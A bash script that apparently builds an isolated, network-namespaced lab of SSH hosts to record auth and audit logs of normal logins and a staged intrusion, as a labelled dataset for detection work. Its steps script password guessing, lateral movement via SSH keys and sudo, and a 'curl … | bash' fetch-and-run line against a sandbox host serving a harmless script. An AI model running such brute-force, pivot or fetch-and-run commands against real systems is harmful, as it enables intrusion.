#!/usr/bin/env bash
# Records the dataset "first-hop" from real daemons: OpenSSH, rsyslog, sudo and auditd, in network namespaces of their
# own. Nothing leaves the namespaces (they have no route out), nothing of this machine is changed: accounts, keys,
# configuration and logs live in a temporary folder that is mounted over /etc, /home, /run and /var/log of each host and
# removed at the end, also after Ctrl-C.
#
#   sudo ./record.sh [FOLDER]      writes FOLDER/{gate,app,db}/auth.log, FOLDER/gate/audit.log, FOLDER/ground-truth.tsv
#
# Needs root, iproute2, util-linux, openssh-server, openssh-client, rsyslog, sudo, curl, python3; auditd where wanted.
set -euo pipefail
umask 022

if [ "${1:-}" = --host ]; then
  # The inside of one host: mounts what is its own over the machine's, then starts its daemons.
  name=$2 root=$3
  hostname "$name"
  mount -t tmpfs none "$root/dev"
  for node in null zero full random urandom tty; do cp -a "/dev/$node" "$root/dev/"; done
  mkdir "$root/dev/pts"
  mount -t devpts -o newinstance,ptmxmode=0666,gid=5,mode=620 none "$root/dev/pts"
  ln -s pts/ptmx "$root/dev/ptmx"
  ln -s /proc/self/fd "$root/dev/fd"
  mount --rbind "$root/dev" /dev
  for own in etc home run var/log; do mount --bind "$root/$own" "/$own"; done
  mount -t tmpfs none /tmp
  for program in "$root"/bin/*; do
    if [ -e "$program" ]; then mount --bind "$program" "/usr/$(tr _ / <<< "$(basename "$program")")"; fi
  done
  rsyslogd -n -f /etc/rsyslog.conf -i /run/rsyslogd.pid &
  mkdir -p /run/sshd
  until [ -S /dev/log ]; do sleep 0.05; done
  if [ -e /etc/audit/hopline ]; then
    auditctl -D
    auditctl -R /etc/audit/hopline
    auditd -s enable
    until auditctl -s | grep -q "^pid [1-9]"; do sleep 0.1; done
  fi
  exec /usr/sbin/sshd -D
fi

[ "$(id -u)" = 0 ] || { echo "record.sh must be run by root: it makes network namespaces." >&2; exit 2; }
here=$(cd "$(dirname "$0")" && pwd)
out=$(mkdir -p "${1:-$here}" && cd "${1:-$here}" && pwd)
work=$(mktemp -d /var/tmp/first-hop.XXXXXX)
chmod 755 "$work"
tag=fh$$
hosts=(gate app db)
clients=(office outside)
declare -A address=([gate]=10.77.0.11 [app]=10.77.0.12 [db]=10.77.0.13 [office]=10.77.0.50 [outside]=10.77.0.66)
declare -A leader=()
audited=no

cleanup() {
  trap - EXIT INT TERM
  set +e
  if [ "$audited" = yes ]; then
    if [ -s "$work/gate/run/auditd.pid" ]; then kill "$(cat "$work/gate/run/auditd.pid")"; sleep 1; fi
    auditctl -D > /dev/null 2>&1
    auditctl -e 0 > /dev/null 2>&1
  fi
  for name in "${hosts[@]}" "${clients[@]}" lan; do
    for process in $(ip netns pids "$tag-$name" 2> /dev/null); do kill -9 "$process" 2> /dev/null; done
    ip netns del "$tag-$name" 2> /dev/null
  done
  sleep 0.3
  rm -rf --one-file-system "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# --- the network: a bridge in a namespace without any way out -------------------------------------------------------
ip netns add "$tag-lan"
ip -n "$tag-lan" link add lan0 type bridge
ip -n "$tag-lan" link set lan0 up
for name in "${hosts[@]}" "${clients[@]}"; do
  ip netns add "$tag-$name"
  ip link add eth0 netns "$tag-$name" type veth peer name "v-$name" netns "$tag-lan"
  ip -n "$tag-lan" link set "v-$name" master lan0 up
  ip -n "$tag-$name" address add "${address[$name]}/24" dev eth0
  ip -n "$tag-$name" link set lo up
  ip -n "$tag-$name" link set eth0 up
done

# --- accounts and configuration ---------------------------------------------------------------------------------------
account() { # host name uid password
  local root=$work/$1
  echo "$2:x:$3:$3:$2:/home/$2:/bin/bash" >> "$root/etc/passwd"
  echo "$2:x:$3:" >> "$root/etc/group"
  echo "$2:$(openssl passwd -6 "$4"):20000:0:99999:7:::" >> "$root/etc/shadow"
  mkdir -p "$root/home/$2/.ssh"
  printf 'StrictHostKeyChecking no\nUserKnownHostsFile ~/.ssh/known_hosts\nLogLevel ERROR\n' > "$root/home/$2/.ssh/config"
  chown -R "$3:$3" "$root/home/$2"
  chmod 700 "$root/home/$2" "$root/home/$2/.ssh"
}
key() { # host name type comment
  ssh-keygen -q -t "$3" -N '' -C "$4" -f "$work/$1/home/$2/.ssh/id_$3"
  chown -R --reference="$work/$1/home/$2" "$work/$1/home/$2/.ssh"
}
allow() { # fromhost fromname type host name
  cat "$work/$1/home/$2/.ssh/id_$3.pub" >> "$work/$4/home/$5/.ssh/authorized_keys"
  chown --reference="$work/$4/home/$5" "$work/$4/home/$5/.ssh/authorized_keys"
}
for name in "${hosts[@]}" "${clients[@]}"; do
  root=$work/$name
  mkdir -p "$root"/{dev,home,run,var/log/audit,bin}
  cp -a /etc "$root/etc"
  touch "$root/var/log/lastlog" "$root/var/log/wtmp" "$root/var/log/btmp" "$root/run/utmp"
  # What the machine at hand keeps of its own people and setup has no place in a dataset.
  awk -F: '$3 < 1000 || $3 == 65534' /etc/passwd > "$root/etc/passwd"
  echo "$name" > "$root/etc/hostname"
  { echo "127.0.0.1 localhost"; for each in "${hosts[@]}"; do echo "${address[$each]} $each"; done; } > "$root/etc/hosts"
  rm -rf "$root"/etc/ssh/{ssh_host_*,sshd_config.d,ssh_config.d} "$root"/etc/sudoers.d "$root"/etc/rsyslog.d \
    "$root"/etc/audit/hopline "$root"/etc/resolv.conf
  mkdir -p "$root/etc/sudoers.d"
  printf 'hosts: files\npasswd: files\ngroup: files\nshadow: files\n' > "$root/etc/nsswitch.conf"
  # No systemd runs in a namespace, so PAM would only report that it cannot reach logind; nor can limits be raised there.
  sed -i '/pam_systemd/d; /pam_limits/d' "$root"/etc/pam.d/*
  printf 'Defaults env_reset,secure_path="/usr/sbin:/usr/bin:/sbin:/bin"\n@includedir /etc/sudoers.d\n' > "$root/etc/sudoers"
  chmod 440 "$root/etc/sudoers"
done
for name in "${hosts[@]}"; do
  root=$work/$name
  ssh-keygen -q -t ed25519 -N '' -C "$name" -f "$root/etc/ssh/ssh_host_ed25519_key"
  cat > "$root/etc/ssh/sshd_config" <<'CONFIG'
HostKey /etc/ssh/ssh_host_ed25519_key
LogLevel VERBOSE
UsePAM yes
UseDNS no
PermitRootLogin no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PrintMotd no
Subsystem sftp internal-sftp -f AUTHPRIV -l INFO
CONFIG
  cat > "$root/etc/rsyslog.conf" <<'CONFIG'
module(load="imuxsock")
auth,authpriv.* action(type="omfile" file="/var/log/auth.log" template="RSYSLOG_FileFormat")
CONFIG
  # Copies, so that the audit rules below can tell this host's daemons from gate's: all share one kernel.
  cp /usr/sbin/sshd "$root/bin/sbin_sshd"
  cp -p /usr/bin/sudo "$root/bin/bin_sudo"
done
account gate mara 7101 'Harbour-7731'
account gate jonas 7102 'Kestrel-2204'
account app mara 7201 'not-used-1'
account app jonas 7202 'not-used-2'
account app deploy 7203 'not-used-3'
account db deploy 7303 'not-used-4'
account office jonas 7402 'not-used-5'
account office mara 7401 'not-used-6'
account outside nobody1 7501 'not-used-7'
key office jonas ed25519 jonas@office
key gate mara ed25519 mara@gate
key app deploy rsa deploy@app
allow office jonas ed25519 gate jonas
allow office jonas ed25519 app jonas
allow gate mara ed25519 app mara
allow app deploy rsa db deploy
echo 'mara ALL=(deploy) NOPASSWD: ALL' > "$work/app/etc/sudoers.d/mara"
chmod 440 "$work/app/etc/sudoers.d/mara"
printf 'quarterly figures\n' > "$work/office/home/jonas/figures.txt"
# What the intruder serves: harmless.
mkdir -p "$work/outside/home/nobody1/www"
printf 'id\nuname -n\n' > "$work/outside/home/nobody1/www/notes.sh"
printf '#!/bin/sh\nwhile :; do\n  n=$(cat "$PASSWORDS.at"); n=$((n + 1)); echo $n > "$PASSWORDS.at"\n  sed -n "${n}p" "$PASSWORDS"; exit\ndone\n' > "$work/askpass"
chmod 755 "$work/askpass"

# --- audit on gate ------------------------------------------------------------------------------------------------------
if command -v auditctl > /dev/null && auditctl -s 2> /dev/null | grep -q '^pid 0' \
  && [ "$(cat /proc/self/loginuid)" = 4294967295 ]; then
  audited=yes
  cat > "$work/gate/etc/audit/auditd.conf" <<'CONFIG'
local_events = yes
write_logs = yes
log_file = /var/log/audit/audit.log
log_format = ENRICHED
name_format = HOSTNAME
flush = INCREMENTAL_ASYNC
freq = 20
max_log_file = 8
max_log_file_action = IGNORE
space_left = 3
admin_space_left = 2
space_left_action = IGNORE
admin_space_left_action = IGNORE
disk_full_action = IGNORE
disk_error_action = IGNORE
CONFIG
  # Programs that people run on gate; nothing of what app, db and the machine itself do.
  {
    echo '-a always,exit -F arch=b64 -S execve -F auid>=7100 -F auid<=7199 -k people'
    for program in "$work"/{app,db}/bin/*; do echo "-a always,exclude -F exe=$program"; done
    echo '-a always,exclude -F msgtype=CONFIG_CHANGE'
  } > "$work/gate/etc/audit/hopline"
  chmod 600 "$work/gate/etc/audit/hopline"
fi

# --- start --------------------------------------------------------------------------------------------------------------
for name in "${hosts[@]}"; do
  ip netns exec "$tag-$name" unshare --uts --mount --propagation private bash "$0" --host "$name" "$work/$name" \
    > "$work/$name.out" 2>&1 < /dev/null &
  leader[$name]=$!
done
for name in "${clients[@]}"; do
  ip netns exec "$tag-$name" unshare --uts --mount --propagation private bash -c '
    hostname "$1"; for own in etc home run; do mount --bind "$2/$own" "/$own"; done; mount -t tmpfs none /tmp; exec sleep 600' \
    client "$name" "$work/$name" < /dev/null &
  leader[$name]=$!
done
for name in "${hosts[@]}"; do
  for _ in $(seq 100); do
    ip netns exec "$tag-$name" ss -ltn 2> /dev/null | grep -q ':22 ' && break
    sleep 0.1
  done
  ip netns exec "$tag-$name" ss -ltn | grep -q ':22 ' || { echo "$name did not start:" >&2; cat "$work/$name.out" >&2; exit 3; }
done
sleep 1

on() { # host account command: runs it there as a person at that machine would
  local name=$1 who=$2
  shift 2
  nsenter -t "${leader[$name]}" --net --mount --uts setpriv --reuid "$who" --regid "$who" --clear-groups \
    env -i HOME="/home/$(stat -c %n "$work/$name/home"/* | xargs -n1 basename | while read -r n; do
      [ "$(stat -c %u "$work/$name/home/$n")" = "$who" ] && echo "$n"; done)" \
    PATH=/usr/bin:/bin LANG=C.UTF-8 "$@"
}
guess() { # host account passwords command: answers password prompts from a list
  local name=$1 who=$2 passwords=$3
  shift 3
  printf '%b' "$passwords" > "$work/passwords"
  echo 0 > "$work/passwords.at"
  chmod 666 "$work/passwords" "$work/passwords.at"
  on "$name" "$who" env SSH_ASKPASS="$work/askpass" SSH_ASKPASS_REQUIRE=force PASSWORDS="$work/passwords" "$@"
}
printf 'start\tend\tstep\twhat happened\texit\n' > "$out/ground-truth.tsv"
step() { # id description command…
  local id=$1 what=$2 start code=0
  shift 2
  start=$(date -u +%Y-%m-%dT%H:%M:%S.%6NZ)
  "$@" > "$work/step.out" 2>&1 < /dev/null || code=$?
  printf '%s\t%s\t%s\t%s\t%s\n' "$start" "$(date -u +%Y-%m-%dT%H:%M:%S.%6NZ)" "$id" "$what" "$code" >> "$out/ground-truth.tsv"
  echo "$id $what: exit $code" >&2
  sed 's/^/    /' "$work/step.out" >&2
  sleep 1
}
password=(-o PubkeyAuthentication=no -o PreferredAuthentications=password)

on outside 7501 python3 -m http.server -d /home/nobody1/www 8000 > /dev/null 2>&1 &

step F01 'jonas logs in from office to gate with his key and looks at the load' \
  on office 7402 ssh jonas@gate uptime
step F02 'mara logs in from office to gate with her password, on a terminal' \
  guess office 7401 'Harbour-7731\n' ssh -tt "${password[@]}" mara@gate 'sleep 1; whoami'
step F03 'jonas goes from office through gate to app (ProxyJump)' \
  on office 7402 ssh -J jonas@gate jonas@app 'hostname; df -h /'
step F04 'jonas copies a file from office to gate (scp, over the sftp protocol)' \
  on office 7402 scp -q /home/jonas/figures.txt jonas@gate:figures.txt
step F05 'jonas copies a file from office to app (scp -O, the old protocol)' \
  on office 7402 scp -O -q /home/jonas/figures.txt jonas@app:figures.txt
step F06 'jonas fetches it back from app (sftp)' \
  on office 7402 sh -c 'echo "get figures.txt /tmp/back.txt" | sftp -q -b - jonas@app'
step F07 'from outside: the account admin, which is not there, is tried on gate' \
  guess outside 7501 'admin\nadmin123\n' ssh "${password[@]}" -o NumberOfPasswordPrompts=2 admin@gate true
step F08 'from outside: root is tried on gate, which root may not use' \
  guess outside 7501 'toor\n' ssh "${password[@]}" -o NumberOfPasswordPrompts=1 root@gate true
step F09 'from outside: three wrong passwords for mara on gate' \
  guess outside 7501 'Harbour-1\nHarbour-77\nHarbour-773\n' ssh "${password[@]}" -o NumberOfPasswordPrompts=3 mara@gate true
step F10 'from outside: the password of mara is found; on gate her key opens app; there sudo makes deploy of her, whose key opens db' \
  guess outside 7501 'Harbour-7731\n' ssh -tt "${password[@]}" mara@gate \
  'sleep 1; id; sleep 1; ssh -tt mara@app "sleep 1; sudo -n -l; sleep 1; sudo -n -u deploy ssh -tt deploy@db \"sleep 1; hostname; cat /etc/passwd | wc -l; sleep 1\"; sleep 1"; sleep 1'
step F11 'from outside, as mara on gate: a script is fetched and run on app by ssh' \
  guess outside 7501 'Harbour-7731\n' ssh -tt "${password[@]}" mara@gate \
  "sleep 1; ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 mara@app 'curl http://10.77.0.66:8000/notes.sh | bash'; sleep 1"

sleep 2
for name in "${hosts[@]}"; do
  mkdir -p "$out/$name"
  cp "$work/$name/var/log/auth.log" "$out/$name/auth.log"
done
if [ "$audited" = yes ]; then
  # The daemon's own first line names the kernel build of the recording machine, and nothing of the scenario.
  grep -av 'type=DAEMON_' "$work/gate/var/log/audit/audit.log" > "$out/gate/audit.log" \
    || { echo "No audit record was written; the dataset has no audit.log." >&2; rm -f "$out/gate/audit.log"; }
else
  echo "No audit here (no auditctl, or another audit daemon has it); the dataset has no audit.log." >&2
fi
chmod 644 "$out"/*/*.log "$out/ground-truth.tsv"
echo "recorded in $out" >&2
